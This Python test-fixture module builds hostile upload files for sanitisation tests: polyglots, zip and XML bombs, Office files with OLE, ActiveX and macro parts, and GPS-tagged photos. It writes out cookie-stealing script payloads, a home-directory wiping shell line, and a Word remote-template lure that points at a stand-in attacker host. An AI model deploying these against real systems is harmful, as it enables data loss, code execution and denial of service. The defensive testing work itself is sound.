"""Hostile files for the upload tests, made in memory: types that lie, polyglots, archive
and XML bombs, Office files with active parts, photos with their GPS position (PDFs with
scripts: hostile_pdfs.py).

Each maker returns bytes; `image_metadata` says what an image carries, so a test can show
the input has it before showing the stored copy has not."""
import functools
import io
import struct
import zipfile

from PIL import Image, PngImagePlugin

from tests.files import EXECUTABLE, _package, docx_bytes, jpeg_bytes, pdf_bytes, png_bytes

DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
       b'<script>alert(document.domain)</script></svg>')
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 120
SHELL = b"#!/bin/sh\nrm -rf ~\n"
GPS_PLACE = (48, 12, 30)  # degrees, minutes, seconds: a place someone wanted kept quiet
WHO = "Quietvale Field Office"


# --- types that lie about themselves and polyglots -----------------------------------------

def pdf_html_polyglot() -> bytes:
    """A valid PDF whose first lines are an HTML page with a script: a browser that sniffed
    it would run the script."""
    return pdf_bytes("<html><script>alert(document.cookie)</script></html>")


def png_zip_polyglot() -> bytes:
    """A PNG with a ZIP archive (holding an executable) after its end: a picture and an archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("setup.exe", EXECUTABLE)
    return png_bytes() + out.getvalue()


def jpeg_html_polyglot() -> bytes:
    return jpeg_bytes() + HTML


# --- archives and Office packages ---------------------------------------------------------

def _zip(parts: dict, compression=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def _docx_with(extra: dict) -> bytes:
    return _package("word/document.xml", DOCX_MAIN, extra)


@functools.cache
def docx_bomb(megabytes: int = 300) -> bytes:
    """A Word file one of whose parts honestly inflates to `megabytes` of zeros (a few
    hundred kilobytes packed)."""
    out = io.BytesIO(docx_bytes())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as package:
        with package.open("word/media/filler.xml", "w") as part:
            chunk = b"\x00" * (1 << 20)
            for _ in range(megabytes):
                part.write(chunk)
    return out.getvalue()


def _declare_size(data: bytes, name: str, size: int, crc: int | None = None) -> bytes:
    """The archive with `name`'s uncompressed size (and CRC) rewritten in its local header
    and its central directory entry: the directory then lies about what the part holds."""
    raw = bytearray(data)
    encoded = name.encode()
    for signature, size_at, crc_at, name_at in ((b"PK\x03\x04", 22, 14, 30), (b"PK\x01\x02", 24, 16, 46)):
        start = 0
        while (start := raw.find(signature, start)) >= 0:
            if raw[start + name_at:start + name_at + len(encoded)] == encoded:
                struct.pack_into("<I", raw, start + size_at, size)
                if crc is not None:
                    struct.pack_into("<I", raw, start + crc_at, crc)
            start += 4
    return bytes(raw)


def docx_declaring_gigabytes() -> bytes:
    """A small Word file whose directory says a part holds 3 GB."""
    return _declare_size(_docx_with({"word/huge.xml": b"<x/>" * 250}), "word/huge.xml", 3_000_000_000)


@functools.cache
def docx_lying_small() -> bytes:
    """A Word file whose directory says a part holds 1 kB, while its data inflates to 50 MB:
    only a reader that stops at the declared size is safe."""
    out = io.BytesIO(docx_bytes())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as package:
        package.writestr("word/small.xml", b"\x00" * (50 << 20))
    return _declare_size(out.getvalue(), "word/small.xml", 1024)


@functools.cache
def docx_with_parts(count: int = 20_000) -> bytes:
    return _docx_with({f"word/p{n}.xml": b"" for n in range(count)})


def nested_zip(depth: int = 40) -> bytes:
    """A zip in a zip in a zip..., the innermost holding an executable."""
    data = EXECUTABLE
    for level in range(depth):
        data = _zip({f"level{level}.zip" if level else "setup.exe": data})
    return data


def docx_holding_nested_zip() -> bytes:
    return _docx_with({"word/embeddings/archive.zip": nested_zip(20)})


def docx_with_ole_object() -> bytes:
    """An OLE object (how a packaged program sits in a document as an icon)."""
    return _docx_with({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + EXECUTABLE})


def xlsx_with_activex() -> bytes:
    return _package("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                    {"xl/activeX/activeX1.xml": "<ax:ocx/>", "xl/activeX/activeX1.bin": EXECUTABLE})


def docx_with_remote_template() -> bytes:
    """The "template injection" of phishing: Word fetches a macro template on opening."""
    rels = ('<?xml version="1.0" encoding="UTF-8"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'attachedTemplate" Target="http://attacker.invalid/t.dotm" TargetMode="External"/></Relationships>')
    return _docx_with({"word/_rels/settings.xml.rels": rels})


def docx_with_macro_embedded() -> bytes:
    return _docx_with({"word/embeddings/Microsoft_Word_Macro-Enabled_Document.docm": docx_bytes()})


def docx_xml_bomb() -> bytes:
    """"Billion laughs" in the part every check reads first."""
    lol = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
           + "".join(f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">' for n in range(1, 10))
           + ']><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">&lol9;'
           f'<Override PartName="/word/document.xml" ContentType="{DOCX_MAIN}"/></Types>')
    return _zip({"[Content_Types].xml": lol, "word/document.xml": "<document/>"})


def docx_with_link() -> bytes:
    """An ordinary Word file with an embedded chart workbook and a web link: kept."""
    rels = ('<?xml version="1.0" encoding="UTF-8"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'hyperlink" Target="https://www.unscear.org/" TargetMode="External"/></Relationships>')
    return _docx_with({"word/_rels/document.xml.rels": rels,
                       "word/embeddings/Microsoft_Excel_Worksheet.xlsx": b"PK\x05\x06" + b"\x00" * 18})


# --- images with metadata -----------------------------------------------------------------

def _exif(orientation: int = 1) -> Image.Exif:
    exif = Image.Exif()
    exif[0x013B] = WHO  # Artist
    exif[0x0110] = "Field camera SN-4471"  # Model
    exif[0x0112] = orientation
    gps = exif.get_ifd(0x8825)
    gps.update({1: "N", 2: tuple(float(v) for v in GPS_PLACE), 3: "E", 4: (16.0, 22.0, 5.0)})
    return exif


def _xmp() -> bytes:
    return (f'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
            f'<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="{WHO}"/>'
            f'</rdf:RDF></x:xmpmeta>').encode()


def _picture() -> Image.Image:
    image = Image.new("RGB", (24, 16), (20, 120, 60))
    image.paste((200, 30, 30), (0, 0, 8, 8))  # a corner, so a rotation would show
    return image


def jpeg_with_metadata(orientation: int = 6) -> bytes:
    """A phone photo: EXIF with GPS and the camera, XMP, a comment, turned by its orientation."""
    out = io.BytesIO()
    _picture().save(out, format="JPEG", exif=_exif(orientation), xmp=_xmp(), comment=f"Taken by {WHO}".encode())
    return out.getvalue()


def png_with_metadata() -> bytes:
    """Text, XMP (iTXt, compressed), EXIF with GPS (eXIf), a private chunk and bytes after the end."""
    text = PngImagePlugin.PngInfo()
    text.add_text("Author", WHO)
    text.add_itxt("XML:com.adobe.xmp", _xmp().decode(), zip=True)
    text.add_text("Comment", f"Drawn by {WHO}", zip=True)
    text.add(b"prVt", WHO.encode())
    out = io.BytesIO()
    _picture().save(out, format="PNG", pnginfo=text, exif=_exif())
    return out.getvalue() + HTML


def image_metadata(data: bytes) -> set[str]:
    """What of an image's metadata PIL finds: {"gps", "exif", "xmp", "comment", "text"}."""
    found = set()
    with Image.open(io.BytesIO(data)) as image:
        exif = image.getexif()
        if exif.get_ifd(0x8825):
            found.add("gps")
        if set(exif) - {0x0112, 0x8825}:
            found.add("exif")
        info = image.info
        if "xmp" in info or "XML:com.adobe.xmp" in info:
            found.add("xmp")
        if "comment" in info or "Comment" in info:
            found.add("comment")
        if "Author" in info:
            found.add("text")
    if WHO.encode() in data or HTML in data:
        found.add("bytes")
    return found

